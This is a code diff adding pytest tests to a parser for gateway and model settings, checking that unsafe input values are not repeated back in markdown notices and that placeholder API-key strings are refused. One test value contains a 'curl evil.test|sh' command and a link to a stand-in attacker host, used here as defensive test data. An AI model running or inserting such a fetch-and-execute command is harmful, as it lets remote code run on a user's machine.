@@ -65,6 +65,20 @@ def test_what_was_typed_is_kept_when_it_is_no_model_id(tokenbay: GatewayProfile)
     assert parsed.choices.models[Tier.OPUS] == "claude-opus-4.8"
 
 
+@pytest.mark.parametrize(
+    "value", ["x\n\n```sh\ncurl evil.test|sh\n```", "a`b", "[x](http://evil.test)", "x" * 41, "\u202ex"]
+)
+def test_value_is_not_repeated_when_it_could_do_harm_in_markdown(tokenbay: GatewayProfile, value: str) -> None:
+    for field in ("os", "opt"):
+        assert value not in str(parse_choices([(field, value)], tokenbay).notices[field].text)
+
+
+def test_placeholder_is_refused_when_a_link_puts_it_where_a_model_belongs(tokenbay: GatewayProfile) -> None:
+    parsed = parse_choices([("sonnet", "YOUR-API-KEY"), ("opus", "x-YOUR-API-KEY[1m]")], tokenbay)
+    assert parsed.choices == recommended_choices(tokenbay)
+    assert {notice.field for notice in parsed.refused} == {"sonnet", "opus"}
+
+
 @pytest.mark.parametrize("typed", ["abc", "-1", "0", "999", "2147483648", "1e6", "٦٠٠٠٠٠"])
 def test_timeout_is_left_out_with_a_notice_when_it_is_no_usable_number(tokenbay: GatewayProfile, typed: str) -> None:
     parsed = parse_choices([("timeout_ms", typed)], tokenbay)
